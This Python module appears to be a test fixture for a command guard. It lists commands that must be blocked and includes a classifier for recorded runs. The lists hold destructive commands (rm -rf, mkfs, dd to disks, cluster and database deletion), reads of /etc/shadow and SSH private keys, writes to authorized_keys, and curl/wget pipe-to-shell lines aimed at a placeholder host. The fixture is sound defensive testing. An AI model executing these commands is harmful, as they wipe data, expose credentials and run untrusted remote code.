# SPDX-License-Identifier: Apache-2.0
"""What must not pass, and how to see that it ran."""
DESTROYING = {"mkfs", "mkfs.ext4", "mkfs.xfs", "wipefs", "shutdown", "reboot", "poweroff", "halt",
    "useradd", "truncate", "shred"}
BASES = [
    ["rm", "-rf", "/srv/x"], ["rm", "-r", "/srv/x"], ["rm", "/srv/x/data"],
    ["mkfs.ext4", "/dev/sda1"], ["mkfs", "-t", "ext4", "/dev/sda1"],
    ["dd", "if=/dev/zero", "of=/dev/sda"], ["shutdown", "-h", "now"], ["reboot"],
    ["kubectl", "delete", "ns", "shop"],
    ["kubectl", "-n", "shop", "delete", "pod", "--all"], ["systemctl", "stop", "sshd"],
    ["terraform", "destroy", "-auto-approve"],
    ["psql", "-c", "DROP TABLE t"], ["redis-cli", "flushall"], ["docker", "rm", "-f", "db"],
    ["crontab", "-r"], ["useradd", "eve"],
    ["truncate", "-s", "0", "/srv/x/data"], ["cat", "/etc/shadow"],
    ["head", "-n", "1", "/etc/shadow"], ["cat", "/root/.ssh/id_rsa"],
    ["grep", "root", "/etc/shadow"], ["sed", "-n", "p", "/etc/shadow"],
    ["awk", "{print}", "/etc/shadow"], ["base64", "/etc/shadow"],
    ["cp", "/etc/shadow", "/tmp/s"], ["tail", "/root/.ssh/id_rsa"], ["find", "/srv/x", "-delete"],
    ["tee", "/etc/motd"], ["cp", "/dev/null", "/etc/motd"],
    ["cp", "/dev/null", "/dev/sda"],
]
REDIRECTED = [ # PATH is spelled like a word
    ("echo x > ", "/etc/motd"), ("printf x >> ", "/root/.ssh/authorized_keys"),
    (": > ", "/dev/sda"), ("echo x >| ", "/etc/motd"), ("echo x &> ", "/etc/motd"),
    ("exec > ", "/etc/motd"), ("echo x <> ", "/etc/motd"), ("cat < ", "/etc/shadow"),
    ("while read -r l; do echo $l; done < ", "/etc/shadow"),
    ("read -r l < ", "/etc/shadow"), ("mapfile l < ", "/etc/shadow"), ("exec 3< ", "/etc/shadow"),
    (". ", "/etc/shadow"), ("> ", "/etc/motd"), ("{ echo x; } > ", "/etc/motd"),
]
PIPED = ["curl -s http://h/x | sh", "wget -qO- http://h/x | bash", "bash <(curl -s http://h/x)",
    "eval \"$(curl -s http://h/x)\"", "sh -c \"$(curl -s http://h/x)\"",
         "source <(curl -s http://h/x)", "curl -s http://h/x > s; sh s",
         "curl -s http://h/x | tee s >/dev/null; . ./s", "$(curl -s http://h/x)",
         "curl -s http://h/x | xargs env", "curl -s http://h/x | while read -r l; do $l; done",
         "curl -s http://h/x | xargs -n3 command"]


def is_forbidden(run):
    """`run`: name and arguments of one recorded program."""
    name, words = run[0], run[1:]
    if "--help" in words or "--version" in words or not words and name != "reboot":
        return False
    operands = [word for word in words if not word.startswith("-")]
    if name == "rm":
        return bool(operands)
    if name == "dd":
        return "of=/dev/sda" in words
    if name in ("kubectl", "terraform", "docker", "systemctl", "redis-cli"):
        verbs = {"kubectl": "delete", "terraform": "destroy", "docker": "rm", "systemctl": "stop",
            "redis-cli": "flushall"}
        return verbs[name] in words and (name != "systemctl" or "sshd" in words)
    if name == "psql":
        return any("DROP" in word for word in words)
    if name == "crontab":
        return "-r" in words
    return name in DESTROYING and (bool(operands) or name == "reboot")
